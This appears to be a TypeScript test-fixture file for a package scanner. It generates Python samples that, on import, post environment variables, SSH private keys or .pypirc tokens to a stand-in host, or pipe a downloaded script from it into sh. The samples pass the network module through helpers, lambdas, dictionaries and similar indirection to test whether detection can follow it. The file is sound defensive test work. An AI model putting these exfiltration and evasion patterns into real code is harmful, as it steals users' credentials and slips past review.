/** Modules that are handed on by helpers: what they can do is seen where they arrive. All inert. */
import type { Shape } from './malicious.js';

const sends = (how: string): string =>
  `import os, pathlib\nd = {k: v for k, v in os.environ.items()}\n${how}.post("https://c.demo.invalid/", json=d)\n`;
const key = (how: string): string =>
  `import pathlib\nd = (pathlib.Path.home() / ".ssh" / "id_rsa").read_text()\n${how}.post("https://c.demo.invalid/", data=d)\n`;
const runs = (how: string): string => `${how}.run(["sh", "-c", "curl http://c.demo.invalid/a | sh"])\n`;

const both = (tier: Shape['tier'], name: string, helper: string, main: string): Shape => ({
  name,
  tier,
  files: { 'demo/__init__.py': main, 'demo/h.py': helper },
});

const helpers: readonly (readonly [string, string, string, string])[] = [
  ['a function that returns it', 'import MOD\ndef get():\n    return MOD\n', 'from .h import get', 'get()'],
  [
    'a function that imports and returns it',
    'def get():\n    import MOD\n    return MOD\n',
    'from .h import get',
    'get()',
  ],
  ['a lambda', 'import MOD\nget = lambda: MOD\n', 'from .h import get', 'get()'],
  ['a value of a dictionary', 'import MOD\nTOOLS = {"a": MOD}\n', 'from .h import TOOLS', 'TOOLS["a"]'],
  ['an item of a list', 'import MOD\nTOOLS = [MOD]\n', 'from .h import TOOLS', 'TOOLS[0]'],
  ['an attribute of a class', 'import MOD\nclass T:\n    tool = MOD\n', 'from .h import T', 'T.tool'],
  [
    'a method',
    'import MOD\nclass T:\n    def tool(self):\n        return MOD\n',
    'from .h import T',
    'T().tool()',
  ],
  [
    'a property',
    'import MOD\nclass T:\n    @property\n    def tool(self):\n        return MOD\n',
    'from .h import T',
    'T().tool',
  ],
  ['a name that is imported again', 'import MOD as tool\n', 'from .h import tool', 'tool'],
  ['the module of the helper', 'import MOD\n', 'from . import h', 'h.MOD'],
  ['a generator', 'import MOD\ndef get():\n    yield MOD\n', 'from .h import get', 'next(get())'],
  ['a default of a parameter', 'import MOD\ndef get(m=MOD):\n    return m\n', 'from .h import get', 'get()'],
];

const across = helpers.flatMap(([name, helper, brings, how]) => [
  both(
    'deny',
    `requests by ${name}`,
    helper.replaceAll('MOD', 'requests'),
    `${brings}\n${sends(how.replace('MOD', 'requests'))}`,
  ),
  both(
    'deny',
    `httpx by ${name}, with a key`,
    helper.replaceAll('MOD', 'httpx'),
    `${brings}\n${key(how.replace('MOD', 'httpx'))}`,
  ),
  both(
    'deny',
    `subprocess by ${name}`,
    helper.replaceAll('MOD', 'subprocess'),
    `${brings}\n${runs(how.replace('MOD', 'subprocess'))}`,
  ),
]);

const within = helpers.map(([name, helper, , how]): Shape => ({
  name: `requests within one file by ${name}`,
  tier: 'deny',
  files: {
    'demo/__init__.py': `${helper.replaceAll('MOD', 'requests')}${sends(how.replace('h.MOD', 'requests').replace('MOD', 'requests'))}`,
  },
}));

/** Nothing else in these files is of interest: what goes out is the name of the machine, as the package is imported. */
const named = (how: string): string =>
  `import platform\n${how}.post("https://c.demo.invalid/", data=platform.node())\n`;
const alone = helpers.flatMap(([name, helper, brings, how]) => [
  both(
    'review',
    `nothing but requests by ${name}`,
    helper.replaceAll('MOD', 'requests'),
    `${brings}\n${named(how.replace('MOD', 'requests'))}`,
  ),
  {
    name: `nothing but requests within one file by ${name}`,
    tier: 'review' as const,
    files: {
      'demo/__init__.py': `${helper.replaceAll('MOD', 'requests')}${named(how.replace('h.MOD', 'requests').replace('MOD', 'requests'))}`,
    },
  },
]);

/** A token that a function takes out of a file goes out by a module that came out of a function. */
const quiet: readonly Shape[] = [
  {
    name: 'one file, a client of a helper, a token of a file',
    tier: 'deny',
    files: {
      'demo/__init__.py':
        'import requests\ndef web():\n    return requests\ndef token():\n    from pathlib import Path\n    return (Path.home() / ".pypirc").read_text()\nweb().post("https://c.demo.invalid/", data=token())\n',
    },
  },
  {
    name: 'requests out of a dictionary of clients',
    tier: 'deny',
    files: {
      'demo/__init__.py':
        'import requests, httpx, os\nclients = {"a": requests, "b": httpx}\ndef go(kind):\n    c = clients[kind]\n    return c.post("https://c.demo.invalid/", json=dict(os.environ))\ngo("a")\n',
    },
  },
  {
    name: 'a client that a helper gives, and nothing is taken',
    tier: 'pass',
    files: {
      'demo/__init__.py':
        'import requests\ndef web():\n    return requests\ndef ask(url):\n    return web().get(url, timeout=3).json()\n',
    },
  },
  {
    name: 'a table of clients, and nothing is taken',
    tier: 'pass',
    files: {
      'demo/__init__.py':
        'import requests, httpx\nclients = {"a": requests, "b": httpx}\ndef ask(kind, url, **kw):\n    return clients[kind].get(url, **kw)\n',
    },
  },
];

export const handedOn: readonly Shape[] = [...across, ...within, ...alone, ...quiet];
